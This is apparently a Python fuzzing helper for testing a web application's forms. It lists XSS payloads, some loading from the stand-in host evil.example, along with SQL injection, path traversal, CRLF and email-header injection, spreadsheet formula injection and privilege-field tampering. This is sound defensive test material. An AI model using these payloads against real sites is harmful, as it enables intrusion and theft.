"""What nobody in their right mind types, and what others type on purpose. Scripts hold the mark, to be found again."""

import random

MARK = "x7351"

SCRIPTS = [
    f"<script>{MARK}()</script>",
    f'"><script src=//evil.example/{MARK}></script>',
    f"<img src=x onerror={MARK}()>",
    f"<svg/onload={MARK}()>",
    f"'\"--><svg><script>{MARK}()</script>",
    f"javascript:{MARK}()",
    f" jaVa\tscript:{MARK}()",
    f"data:text/html,<script>{MARK}()</script>",
    f"<a href='javascript:{MARK}()'>x</a>",
    f"[x](javascript:{MARK}())",
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"</title><script>{MARK}()</script>",
    f"</textarea><script>{MARK}()</script>",
    f'" onmouseover="{MARK}()',
    f"' autofocus onfocus='{MARK}()",
    f"<math><mi xlink:href='javascript:{MARK}()'>x",
    f"<body onload={MARK}()>",
    f"<details open ontoggle={MARK}()>",
    f"<style>@import '//evil.example/{MARK}'</style>",
    f"<link rel=stylesheet href=//evil.example/{MARK}>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<base href=//evil.example/{MARK}/>",
    f"<form action=//evil.example/{MARK}><input type=submit>",
    f"<object data=//evil.example/{MARK}>",
    f"{{{{ {MARK} }}}}{{% debug %}}",
    f"${{{MARK}}} %({MARK})s {{0.__class__}}",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"\u202e<script>{MARK}()</script>\u202c",
    f"＜script＞{MARK}()＜/script＞",
    f"<video><source onerror={MARK}()></video>",
    f"<input type=image src=x onerror={MARK}()>",
    f"<a href='vbscript:{MARK}()'>x</a>",
]
# Each once as it is, with capitals, in the middle of words and after a line break: more than a hundred in all.
SCRIPTS = [variant for text in SCRIPTS for variant in (text, text.swapcase(), f"Institute {text} of", f"Name\n{text}")]

NONSENSE = [
    "",
    " ",
    "\x00",
    f"{MARK}\x00{MARK}",
    "\ud800",
    "\ufdd0\ufffe",
    "\u202e\u2066\u200b\ufeff",
    "٣٤٥",
    "9e99",
    "-1",
    "0",
    "NaN",
    "Infinity",
    "1e400",
    "9" * 400,
    "0x1F",
    "2026-02-30",
    "9999-12-31",
    "0000-00-00",
    "0001-01-01",
    "25:61",
    "true",
    "null",
    "[]",
    '{"a": [1, 2',
    "' OR 1=1 --",
    "%%%%",
    "../../etc/passwd",
    "//evil.example",
    "http://127.0.0.1:1/",
    "https://exa mple.org/\r\nSet-Cookie: a=b",
    "a@b",
    "a@b.example\r\nBcc: c@d.example",
    "=cmd|' /C calc'!A0",
    "ﬁ İ ß ſ",
    "中国科学院 Российская академия наук العربية",
    "🧪" * 50,
    "a" * 5_000,
    "á" * 3_000,
    "(" * 2_000,
    "\r\n" * 500,
]


def value(random: random.Random) -> str:
    return random.choice(SCRIPTS if random.random() < 0.4 else NONSENSE)


def filled(random: random.Random, fields: dict[str, list[str]]) -> dict[str, list[str]]:
    """The form as it stands on the page, with some fields filled with junk, some left out, and some that it does not have."""
    data = dict(fields)
    for name in fields:
        chance = random.random()
        if chance < 0.6:
            data[name] = [value(random)]
        elif chance < 0.7:
            del data[name]
        elif chance < 0.75:
            data[name] = [value(random), value(random)]
    for name in random.sample(["state", "id", "pk", "user", "is_staff", "is_superuser", "owner", "slug", "next"], 3):
        data[name] = [value(random)]
    return data


PARAMETERS = [
    *("q", "page", "after", "as_of", "year", "sort", "size", "country", "theme", "status", "kind", "format", "member"),
    *("source", "center", "kept", "gone", "next", "institution"),
]


def encodable(data: dict[str, list[str]]) -> dict[str, list[str]]:
    """A browser cannot send half of a pair of surrogates; a program can, as bytes that are no UTF-8."""
    return {
        name: [text.encode("utf-8", "surrogatepass").decode("utf-8", "replace") for text in texts]
        for name, texts in data.items()
    }
